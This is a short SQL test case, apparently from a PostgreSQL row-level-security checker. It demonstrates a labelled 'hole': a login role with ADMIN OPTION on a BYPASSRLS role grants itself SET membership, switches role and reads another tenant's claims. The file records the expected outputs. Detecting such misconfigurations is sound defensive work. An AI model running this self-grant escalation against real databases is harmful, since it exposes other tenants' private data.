-- hole: the login may neither use nor become the role that bypasses, but it may grant it
-- object: app.claim, {dba}, {app}
-- attack: set role
-- seen: crossed
-- role: {app}
-- from: 16
-- why: ADMIN OPTION lets it give itself the membership with SET.
CREATE ROLE {owner} NOLOGIN;
CREATE ROLE {dba} NOLOGIN BYPASSRLS;
CREATE ROLE {app} LOGIN;
GRANT {dba} TO {app} WITH ADMIN TRUE, INHERIT FALSE, SET FALSE;
CREATE SCHEMA app AUTHORIZATION {owner};
SET ROLE {owner};
CREATE TABLE app.claim (
  tenant_id bigint NOT NULL,
  id bigint NOT NULL,
  reason text NOT NULL,
  PRIMARY KEY (tenant_id, id)
);
ALTER TABLE app.claim ENABLE ROW LEVEL SECURITY;
ALTER TABLE app.claim FORCE ROW LEVEL SECURITY;
CREATE POLICY own ON app.claim USING (tenant_id = nullif(current_setting('app.tenant_id', true), '')::bigint);
GRANT USAGE ON SCHEMA app TO {app}, {dba};
GRANT SELECT, INSERT, UPDATE, DELETE ON app.claim TO {app}, {dba};
RESET ROLE;
INSERT INTO app.claim VALUES (1, 1, 'hail'), (2, 1, 'fire');

-- session 1 as {app}
SET app.tenant_id = '1';
SET ROLE {dba};
-- fails: 42501
GRANT {dba} TO {app} WITH SET TRUE;
-- gives: GRANT
SET ROLE {dba};
SELECT reason FROM app.claim ORDER BY reason;
-- gives: fire; hail
